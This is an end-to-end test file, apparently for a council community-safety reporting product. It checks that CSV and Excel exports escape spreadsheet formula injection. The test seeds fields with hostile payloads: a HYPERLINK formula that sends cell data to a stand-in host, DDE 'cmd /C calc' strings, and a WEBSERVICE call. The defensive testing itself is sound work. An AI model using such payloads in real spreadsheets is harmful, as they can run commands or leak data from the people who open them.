import { readFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { runsAsSpreadsheetFormula } from '../libs/kernel/src/index.js';
import { as, http, Product, SEVENOAKS_FILE, startProduct } from './support/product.js';
import { openCycle, projectionsSettled, submitAndApprove, YEAR_ONE } from './support/reporting.js';

/**
 * What an agency lead types, and an agency's name as the coordinator's plan file gives it, reaches the CSV and the
 * workbooks council officers open in Excel. Entered through the product's own routes and read back as a
 * spreadsheet reads them: no CSV cell a spreadsheet would run, no formula in a workbook, and every text there that
 * would run if typed formatted as Text, so editing it cannot make it one.
 */
describe('formulas typed into the product never run in its spreadsheets (e2e)', () => {
  let product: Product;
  let call: ReturnType<typeof http>;
  let cycleId: string;
  const agencyName = '=HYPERLINK("http://x.example/?d="&A1,"Sevenoaks CSP")';
  const csp = () => as.lead('sevenoaks-csp');

  beforeAll(async () => {
    product = await startProduct('spreadsheet_formulas');
    call = http(product.baseUrl);
    const yaml = readFileSync(SEVENOAKS_FILE, 'utf8').replace(
      'name: Sevenoaks District Community Safety Partnership',
      `name: '${agencyName}'`,
    );
    const imported = await call('POST', '/plan/import', as.coordinator, { yaml });
    expect(imported.status).toBe(200);
    cycleId = await openCycle(call, as.coordinator, YEAR_ONE, ['S1', 'S2']);
    await submitAndApprove(call, `${cycleId}.S1`, csp(), as.reviewer, {
      rag: 'amber',
      narrative: "-2+3+cmd|' /C calc'!A0\n\n-5% on last year",
      dot: 'declining',
      comments: "@SUM(1+1)*cmd|' /C calc'!A0",
      ragReason: '\uff1dHYPERLINK("http://x.example")',
      tables: [
        {
          caption: '+cmd|x',
          header: ['-cmd', 'Figure'],
          rows: [
            ['=1+1', '-5'],
            ['-5% on last year', '1,930'],
          ],
        },
      ],
      caseStudies: [
        {
          title: '@SUM(A1)',
          agency: '=cmd',
          sections: [{ heading: '-heading', body: '=WEBSERVICE("http://x.example")' }],
        },
      ],
    });
    const draft = await call('PUT', `/returns/${cycleId}.S2/draft`, csp(), {
      narrative: '- Attending events\n- =HYPERLINK("http://x.example")',
      comments: '=1+1',
    });
    expect(draft.status).toBe(200);
    await projectionsSettled(product);
  }, 60_000);
  afterAll(() => product.stop());

  /** Every cell of a workbook that runs, or would run once edited in Excel, by sheet and address. */
  function runnable(book: ExcelJS.Workbook): string[] {
    const found: string[] = [];
    for (const sheet of book.worksheets)
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.type === ExcelJS.ValueType.Formula || cell.formula !== undefined)
            found.push(`${sheet.name}!${cell.address} is a formula`);
          else if (
            typeof cell.value === 'string' &&
            runsAsSpreadsheetFormula(cell.value) &&
            cell.numFmt !== '@'
          )
            found.push(`${sheet.name}!${cell.address} ${JSON.stringify(cell.value)} is not Text`);
        }),
      );
    return found;
  }

  async function workbook(path: string, headers: Record<string, string>): Promise<ExcelJS.Workbook> {
    const response = await fetch(`${product.baseUrl}${path}`, { headers });
    expect([path, response.status]).toEqual([path, 200]);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(await response.arrayBuffer());
    return book;
  }

  it('guards every cell of every CSV part, the hostile ones with an apostrophe', async () => {
    const cells: string[] = [];
    for (const part of ['measures', 'summary', 'tables', 'indicators', 'appendices', 'case-studies']) {
      const response = await call('GET', `/cycles/${cycleId}/report?format=csv&part=${part}`, as.coordinator);
      expect([part, response.status]).toEqual([part, 200]);
      const records = parse(response.body as string, { bom: true }) as string[][];
      cells.push(...records.flat());
    }
    expect(cells.filter((cell) => runsAsSpreadsheetFormula(cell) || /^\p{Cc}/u.test(cell))).toEqual([]);
    expect(cells).toEqual(
      expect.arrayContaining([
        `'${agencyName}`,
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'-2+3+cmd|' /C calc'!A0\n\n-5% on last year",
        "'+cmd|x",
        "'-cmd",
        "'=1+1",
        '-5',
        "'-5% on last year",
        "'@SUM(A1)",
        '\'=WEBSERVICE("http://x.example")',
      ]),
    );
  });

  it('writes no formula in the report workbook, and formats each formula-looking text as Text', async () => {
    const book = await workbook(`/cycles/${cycleId}/report?format=xlsx`, as.coordinator);
    expect(runnable(book)).toEqual([]);
    const measures = book.getWorksheet('Measures')!;
    const agency = measures.getRow(2).getCell(4);
    expect([agency.value, agency.numFmt]).toEqual([agencyName, '@']);
  });

  it('writes no formula in the agency’s returns workbook, its words columns Text', async () => {
    const book = await workbook(`/agency/cycles/${cycleId}/returns.xlsx`, csp());
    expect(runnable(book)).toEqual([]);
    const sheet = book.worksheets[0];
    const headings = (sheet.getRow(1).values as unknown[]).map(String);
    const progress = sheet.getRow(2).getCell(headings.indexOf('Progress'));
    expect([progress.value, progress.numFmt]).toEqual([
      '- Attending events\n- =HYPERLINK("http://x.example")',
      '@',
    ]);
  });
});
